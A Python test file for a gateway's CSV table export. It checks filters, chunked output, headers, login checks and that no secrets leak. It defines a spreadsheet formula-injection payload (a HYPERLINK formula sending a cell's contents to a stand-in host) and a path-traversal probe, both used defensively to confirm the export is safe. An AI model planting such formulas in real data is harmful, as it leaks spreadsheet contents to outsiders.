"""Tables as CSV: all of their rows, with the filters, in pieces, and safe to open in a spreadsheet."""

import csv
import io
from uuid import uuid4

import httpx
import pytest

from privee.gateway.ledger.ledger import ChargeRequest, RefusedError
from privee.gateway.ledger.quotas import Quotas
from privee.gateway.ui import export_tables
from privee.gateway.ui.csv_text import csv_text
from privee.gateway.ui.export_tables import EXPORTS
from tests._support.local_gateway import Local, text_of, visitor

EVIL = '=HYPERLINK("http://x.example/?"&A1)'
MARKS = "=+-@\uff1d\uff0b\uff0d\uff20"
BEGINS = (*MARKS, "\t", "\r", "\n")


def rows(answer) -> list[dict[str, str]]:
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(answer.content.decode(), newline=""), strict=True))


def ask(local: Local, key_id: str, *entities: str) -> None:
    local.service.ledger.charge(ChargeRequest(entities, local.service.inference.price, key_id, uuid4().hex))


@pytest.fixture
def used(local):
    """Two consumers; one was answered three times and refused once, the other is called like a formula."""
    keys = local.service.keys
    first = keys.create("web", "consumer", ["*"], actor="test", quotas=Quotas.parse("8/day", "4/day")).record.id
    second = keys.create(EVIL, "consumer", ["*"], actor="test").record.id
    for entities in (["17"], ["17", "42"], ["43"]):
        ask(local, first, *entities)
    with pytest.raises(RefusedError):
        ask(local, first, "17", "44")
    ask(local, second, "45")
    return first, second


@pytest.mark.parametrize("piece", [1, 2, 5000])
def test_every_table_is_there_whole_whatever_the_pieces(local, used, piece, monkeypatch):
    monkeypatch.setattr(export_tables, "PIECE", piece)
    first, _ = used
    local.service.ledger.reset("45", reason="+49 said so", actor="test")
    with visitor(local.url, local.key()) as client:
        get = {name: rows(client.get(f"/ui/export/{name}.csv")) for name in EXPORTS}
    requests = get["requests"]
    assert [one["consumer"] for one in requests].count(first) == 4
    assert sum(int(one["releases"]) for one in requests) == 5
    (refused,) = [one for one in requests if one["outcome"] == "refused"]
    assert (refused["entities"], refused["releases"], refused["charged"]) == ("2", "0", "0")
    assert len({one["id"] for one in requests}) == 5
    (step,) = get["requests-over-time"] or [None]
    assert (step["answered"], step["refused"], step["releases"]) == ("4", "1", "5")
    busy, other = get["consumers"]
    assert (busy["consumer"], busy["requests"], busy["refused"], busy["releases"]) == (first, "4", "1", "4")
    assert (busy["used_releases"], busy["quota_releases"], busy["used_entities"]) == ("4", "8/day", "3")
    assert (busy["quota_share_used"], busy["state"], other["requests"]) == ("0.75", "active", "1")
    tags = {name: local.service.ledger.spent(name).tag for name in ("17", "42", "43", "45")}
    assert [one["tag"] for one in get["entities"]] == sorted(tags.values())
    shares = {one["tag"]: one["share_of_limit"] for one in get["entities"]}
    assert [shares[tags[name]] for name in ("17", "42", "45")] == ["1", "0.5", "0"]
    assert get["entity-consumers"] == []
    assert [one["what"] for one in get["acts"]] == ["Key made", "Entity reset", "Key made", "Key made"]
    assert get["acts"][1]["reason"] == "'+49 said so"


def test_pages_and_files_on_postgresql(folder, tmp_path, postgres_url):
    with Local(folder, tmp_path, url=postgres_url) as local, visitor(local.url, local.key()) as client:
        record = local.service.keys.create(
            "web", "consumer", ["*"], actor="test", quotas=Quotas.parse("8/day", "4/day")
        )
        key_id = record.record.id
        ask(local, key_id, "17", "42")
        tag = local.service.ledger.spent("17").tag
        query = f"?consumer={key_id}&outcome=released&entity={tag}"
        page = text_of(client.get(f"/ui{query}").text)
        assert "1 request in the last 24 hours: 1 answered with 2 releases, 0 refused." in page
        assert f"web {key_id} 1 0 2 50 % 2 of 4/day entities 20" in page
        assert client.get(f"/ui/consumers/{key_id}").status_code == 200
        counts = {name: len(rows(client.get(f"/ui/export/{name}.csv{query}"))) for name in EXPORTS}
    assert counts == dict.fromkeys(EXPORTS, 1) | {"acts": 2}


def test_filters_are_applied(local, used):
    first, second = used
    tag = local.service.ledger.spent("17").tag
    with visitor(local.url, local.key()) as client:

        def get(name: str, query: str) -> list[dict[str, str]]:
            return rows(client.get(f"/ui/export/{name}.csv?{query}"))

        assert {one["consumer"] for one in get("requests", f"consumer={second}")} == {second}
        assert [one["outcome"] for one in get("requests", "outcome=refused&range=7d")] == ["refused"]
        assert get("requests", "from=2020-01-01&to=2020-01-31") == []
        assert get("requests-over-time", "from=2020-01-01&to=2020-01-31") == []
        assert [one["requests"] for one in get("consumers", "outcome=refused")] == ["1", "0"]
        assert [one["tag"] for one in get("entities", f"entity={tag}")] == [tag]
        (given,) = get("entity-consumers", f"entity={tag}")
        assert (given["consumer"], given["name"], given["releases"]) == (first, "web", "2")


def test_a_file_has_a_plain_name_and_strangers_get_none(local, used):
    with visitor(local.url, local.key()) as client:
        answer = client.get("/ui/export/consumers.csv")
        now = answer.headers["content-disposition"]
        assert now.startswith('attachment; filename="digits-consumers-20')
        assert answer.headers["cache-control"] == "no-store"
        assert answer.headers["x-content-type-options"] == "nosniff"
        for name in ("nothing", "requests.csv", "..%2frequests"):
            assert client.get(f"/ui/export/{name}.csv").status_code == 404
    with visitor(local.url) as stranger:
        for key in (local.key("consumer"), local.key("auditor")):  # a session, not a key, opens the pages
            answer = stranger.get("/ui/export/consumers.csv", headers={"authorization": f"Bearer {key}"})
            assert (answer.status_code, answer.headers["location"]) == (303, "/ui/login")


def test_no_file_holds_a_secret(local, used):
    key = local.key("consumer")
    with visitor(local.url, local.key()) as client:
        every = "".join(client.get(f"/ui/export/{name}.csv").text for name in EXPORTS)
    assert key.split("_")[1] in every
    assert key.split("_", 2)[2] not in every
    hashes = [row.hash.hex() for row in local.service._chain.entries(50)]
    assert not any(secret in every for secret in hashes)


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_cell_is_a_formula_however_lines_are_split(delimiter):
    begins = [f"{mark}{EVIL}" for mark in BEGINS]
    inside = [f'x{between}{mark}1+1"' for mark in MARKS for between in (";", '";"', "; ", ';"', ";;\t")]
    texts = [*begins, *inside]
    written = csv_text({"n": "count", "text": "text"}, [(1, text) for text in texts], header=True).decode()
    lines = list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))
    cells = [cell.lstrip('" ') for line in lines for cell in line]
    assert len(cells) > 2 * len(texts) if delimiter == "," else len(cells) > len(texts) + len(inside)
    assert [cell for cell in cells if cell.startswith(BEGINS)] == []


def test_numbers_and_plain_text_are_left_alone():
    columns = {"a": "text", "b": "count", "c": "share", "d": "time"}
    written = csv_text(columns, [("-5", -5, 0.25, 1_800_000_000), (None, None, None, None)], header=False)
    assert written == b'"-5",-5,0.25,2027-01-15 08:00:00Z\n,,,\n'
    assert csv_text(columns, [], header=True) == b'"a","b","c","d"\n'


def test_a_ledger_that_fails_is_a_page_before_the_file_begins_and_a_broken_file_after(local, used, monkeypatch):
    monkeypatch.setattr(export_tables, "PIECE", 2)
    latest, calls = export_tables.latest, []

    def failing(connection, *args):
        calls.append(args)
        if len(calls) == fails_at:
            connection.exec_driver_sql("SELECT * FROM gone")
        return latest(connection, *args)

    monkeypatch.setattr(export_tables, "latest", failing)
    with visitor(local.url, local.key()) as client:
        fails_at = 1
        answer = client.get("/ui/export/requests.csv")
        assert (answer.status_code, answer.headers["content-type"]) == (503, "text/html; charset=utf-8")
        fails_at = 3
        with pytest.raises(httpx.RemoteProtocolError):
            client.get("/ui/export/requests.csv")
        assert len(calls) == 3
        assert len(rows(client.get("/ui/export/requests.csv"))) == 5
